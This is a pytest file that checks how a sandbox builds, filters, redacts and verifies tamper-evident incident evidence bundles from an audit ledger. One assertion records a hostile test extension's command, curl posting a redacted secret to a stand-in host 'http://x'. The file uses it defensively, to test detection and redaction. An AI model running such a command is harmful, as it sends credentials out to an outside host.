"""Evidence bundles from a real ledger: determinism, the five verification steps, filtered bundles."""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from pi_sandbox.audit import AuditStore
from pi_sandbox.evidence import (
    REDACTED,
    BundleFilter,
    RedactionPolicy,
    build_bundle,
    compute_bundle_hash,
    export_bundle,
    verify_bundle,
)
from pi_sandbox.evidence.export import summarize
from pi_sandbox.hashing import canonical_json
from tests.evidence.conftest import SECRET

Bundle = dict[str, Any]


def _key(state_dir: Path) -> str:
    return (state_dir / "ledger-signing.pub").read_text().strip()


def _reseal(bundle: Bundle, *, summary: bool = True) -> Bundle:
    """After an edit: recompute the summary (unless testing it) and the hash, as a careful forger would."""
    if summary:
        bundle["summary"] = summarize(bundle)
    bundle["bundle_hash"] = compute_bundle_hash(bundle)
    return bundle


def _secret_scanner(text: str) -> str | None:
    return "the test secret" if SECRET in text else None


def test_export_twice_gives_the_same_bytes(ledger_store: AuditStore, tmp_path: Path) -> None:
    options: list[dict[str, Any]] = [
        {},
        {"bundle_filter": BundleFilter(extension_id="ext.evil", alert_categories=("secret_exposure",)),
         "redaction": RedactionPolicy.full()},
    ]
    for n, kwargs in enumerate(options):
        first = export_bundle(ledger_store, tmp_path / f"a{n}.json", **kwargs)
        second = export_bundle(ledger_store, tmp_path / f"b{n}.json", **kwargs)
        assert (tmp_path / f"a{n}.json").read_bytes() == (tmp_path / f"b{n}.json").read_bytes()
        assert first.bundle_hash == second.bundle_hash
        assert json.loads((tmp_path / f"a{n}.json").read_bytes())["bundle_hash"] == first.bundle_hash


@pytest.mark.parametrize("kwargs", [
    {},
    {"bundle_filter": BundleFilter(extension_id="ext.evil")},
    {"bundle_filter": BundleFilter(extension_id="ext.good"), "redaction": RedactionPolicy.full()},
    {"bundle_filter": BundleFilter(until_seq=20)},
    {"redaction": RedactionPolicy.parse("command_hash,remediation")},
], ids=["whole", "extension", "extension-full-redaction", "until-seq", "some-fields"])
def test_untouched_bundles_pass_all_five_steps(ledger_store: AuditStore, incident_ledger: Path,
                                               kwargs: dict[str, Any]) -> None:
    bundle = build_bundle(ledger_store, **kwargs)
    report = verify_bundle(bundle, public_key=_key(incident_ledger), secret_scanner=_secret_scanner)
    assert report.valid, report.to_dict()
    assert [s.name for s in report.steps] == ["bundle_hash", "chain", "summary", "schema", "redaction"]
    assert report.trust_anchor == "explicit"


def test_sections_hold_the_incident(ledger_store: AuditStore) -> None:
    bundle = build_bundle(ledger_store)
    counts = bundle["summary"]["counts"]
    assert counts["risk_ledger"] == len(ledger_store.query_ledger())
    assert counts["alerts"] and counts["exec_mediation"] and counts["secret_broker"] and counts["telemetry"]
    assert [t["extension_id"] for t in bundle["trust_transitions"]][-1] == "ext.evil"
    assert bundle["kill_switch_events"][0]["decision"] == "on"
    assert bundle["risk_ledger"]["complete"] and bundle["risk_ledger"]["proofs"][0]["type"] == "head"
    # Which command did it try? The forensic record answers, with the secret already the placeholder.
    exec_entry = next(e for e in bundle["risk_ledger"]["entries"] if e["method"] == "exec")
    params = bundle["risk_ledger"]["forensics"][str(exec_entry["seq"])]["disclosed"]["params"]["value"]
    assert params == {"cmd": "curl", "args": ["-d", "[REDACTED]", "http://x"]}
    assert SECRET not in canonical_json(bundle).decode()


def test_filtered_bundle_carries_only_its_extension_and_proves_each_run(ledger_store: AuditStore,
                                                                        incident_ledger: Path) -> None:
    whole = build_bundle(ledger_store)
    bundle = build_bundle(ledger_store, bundle_filter=BundleFilter(extension_id="ext.good"))
    entries = bundle["risk_ledger"]["entries"]
    assert {e["extension_id"] for e in entries} <= {"ext.good", None}
    assert len(entries) < len(whole["risk_ledger"]["entries"])
    assert not bundle["risk_ledger"]["complete"]
    assert {a["extension_id"] for a in bundle["alerts"]} <= {"ext.good", None}
    assert any(p["type"] == "merkle" for p in bundle["risk_ledger"]["proofs"])
    # Nothing of the other extension's calls travels with it, not even their forensic records.
    assert set(bundle["risk_ledger"]["forensics"]) <= {str(e["seq"]) for e in entries}
    for section in ("alerts", "telemetry", "exec_mediation", "secret_broker", "trust_transitions"):
        assert all(item["extension_id"] != "ext.evil" for item in bundle[section]), section
    assert whole["exec_mediation"] and not bundle["exec_mediation"]
    assert verify_bundle(bundle, public_key=_key(incident_ledger)).valid


def test_time_filter_keeps_the_window(ledger_store: AuditStore, incident_ledger: Path) -> None:
    entries = ledger_store.query_ledger()
    start, end = entries[5].ts_ms, entries[-6].ts_ms
    bundle = build_bundle(ledger_store, bundle_filter=BundleFilter(start_ms=start, end_ms=end))
    assert all(start <= e["ts_ms"] <= end for e in bundle["risk_ledger"]["entries"])
    assert all(start <= a["ts_ms"] <= end for a in bundle["alerts"])
    assert bundle["filter"]["start_ms"] == start and verify_bundle(bundle, public_key=_key(incident_ledger)).valid


# --- each step fails on its own tampering ----------------------------------------------------------


def _failed(bundle: Bundle, key: str, scanner: Callable[[str], str | None] | None = None) -> list[str]:
    return verify_bundle(bundle, public_key=key, secret_scanner=scanner).failed_steps


@pytest.fixture()
def pristine(ledger_store: AuditStore) -> Callable[..., Bundle]:
    made = {"whole": build_bundle(ledger_store),
            "filtered": build_bundle(ledger_store, bundle_filter=BundleFilter(extension_id="ext.evil"),
                                     redaction=RedactionPolicy.full())}
    return lambda which="whole": copy.deepcopy(made[which])


@pytest.mark.parametrize("which", ["whole", "filtered"])
def test_editing_a_section_fails_the_bundle_hash_only(pristine: Callable[..., Bundle], incident_ledger: Path,
                                                      which: str) -> None:
    bundle = pristine(which)
    bundle["alerts"][0]["summary"] = "nothing happened"
    assert _failed(bundle, _key(incident_ledger)) == ["bundle_hash"]


@pytest.mark.parametrize("which", ["whole", "filtered"])
def test_dropping_an_entry_fails_the_chain(pristine: Callable[..., Bundle], incident_ledger: Path, which: str) -> None:
    bundle = pristine(which)
    entries = bundle["risk_ledger"]["entries"]
    victim = next(i for i in range(1, len(entries) - 1) if entries[i]["seq"] + 1 == entries[i + 1]["seq"])
    del entries[victim]
    bundle["trust_transitions"] = [t for t in bundle["trust_transitions"] if t["seq"] != entries[victim]["seq"] - 1]
    assert _failed(_reseal(bundle), _key(incident_ledger)) == ["chain"]


@pytest.mark.parametrize("which", ["whole", "filtered"])
def test_rewriting_a_decision_fails_the_chain_even_when_rechained(pristine: Callable[..., Bundle],
                                                                  incident_ledger: Path, which: str) -> None:
    from pi_sandbox.evidence.canon import entry_hash_of

    bundle = pristine(which)
    entries = bundle["risk_ledger"]["entries"]
    index = next(i for i, e in enumerate(entries) if e["decision"] == "deny")
    entries[index]["decision"] = "allow"
    assert _failed(_reseal(bundle), _key(incident_ledger)) == ["chain"]
    # A forger re-computes every later hash and link: the signed checkpoint (or Merkle root) still disagrees.
    for i in range(index, len(entries)):
        if i > index and entries[i]["seq"] == entries[i - 1]["seq"] + 1:
            entries[i]["prev_hash"] = entries[i - 1]["entry_hash"]
        entries[i]["entry_hash"] = entry_hash_of(entries[i])
    report = verify_bundle(_reseal(bundle), public_key=_key(incident_ledger))
    assert report.failed_steps == ["chain"]
    assert any("checkpoint" in e or "Merkle" in e for e in report.steps[1].errors)


def test_a_foreign_key_fails_the_chain(pristine: Callable[..., Bundle]) -> None:
    other = "ab" * 32
    report = verify_bundle(pristine(), public_key=other)
    assert report.failed_steps == ["chain"] and "not signed by the trusted key" in report.steps[1].errors[0]


def test_editing_a_forensic_value_fails_the_chain(pristine: Callable[..., Bundle], incident_ledger: Path) -> None:
    bundle = pristine()
    record = next(r for r in bundle["risk_ledger"]["forensics"].values() if "command_hash" in r["disclosed"])
    record["disclosed"]["params"]["value"] = {"cmd": "true"}
    assert _failed(_reseal(bundle), _key(incident_ledger)) == ["chain"]


@pytest.mark.parametrize("which", ["whole", "filtered"])
def test_changing_a_count_fails_the_summary_only(pristine: Callable[..., Bundle], incident_ledger: Path,
                                                 which: str) -> None:
    bundle = pristine(which)
    bundle["summary"]["counts"]["alerts"] -= 1
    assert _failed(_reseal(bundle, summary=False), _key(incident_ledger)) == ["summary"]


def test_changing_the_schema_fails_the_schema_only(pristine: Callable[..., Bundle], incident_ledger: Path) -> None:
    bundle = pristine()
    bundle["schema"] = "pi.security.incident_evidence_bundle.v2"
    assert _failed(_reseal(bundle), _key(incident_ledger)) == ["schema"]


def test_a_value_left_under_full_redaction_fails_the_redaction_only(pristine: Callable[..., Bundle],
                                                                    incident_ledger: Path) -> None:
    bundle = pristine("filtered")
    assert all(a["remediation"] in (REDACTED, "") or a["remediation"] is None for a in bundle["alerts"]) and \
        any(a["remediation"] == REDACTED for a in bundle["alerts"])
    alert = next(a for a in bundle["alerts"] if a["remediation"] == REDACTED)
    alert["remediation"] = "rotate the exposed credential"
    assert _failed(_reseal(bundle), _key(incident_ledger)) == ["redaction"]


def test_a_raw_secret_anywhere_fails_the_redaction_only(pristine: Callable[..., Bundle],
                                                        incident_ledger: Path) -> None:
    bundle = pristine("filtered")
    bundle["telemetry"][0]["payload"]["reason"] = f"leaked {SECRET}"
    assert _failed(_reseal(bundle), _key(incident_ledger), _secret_scanner) == ["redaction"]
    assert _failed(_reseal(pristine("filtered")), _key(incident_ledger), _secret_scanner) == []


def test_disclosing_a_withheld_forensic_field_fails_the_redaction(pristine: Callable[..., Bundle],
                                                                  ledger_store: AuditStore,
                                                                  incident_ledger: Path) -> None:
    """Re-adding the withheld value (with its true salt, so the commitment matches) is still caught."""
    bundle = pristine("filtered")
    seq, record = next((s, r) for s, r in bundle["risk_ledger"]["forensics"].items() if "params" in r["commitments"])
    full = ledger_store.forensic_records(int(seq), int(seq))[int(seq)]
    record["disclosed"]["params"] = full["disclosed"]["params"]
    assert _failed(_reseal(bundle), _key(incident_ledger)) == ["redaction"]


def test_malformed_bundles_report_every_step_without_crashing(pristine: Callable[..., Bundle]) -> None:
    bundle = pristine()
    del bundle["risk_ledger"]
    report = verify_bundle(bundle)
    assert not report.valid and {"chain", "schema"} <= set(report.failed_steps)
    assert any("malformed" in e for s in report.steps for e in s.errors)
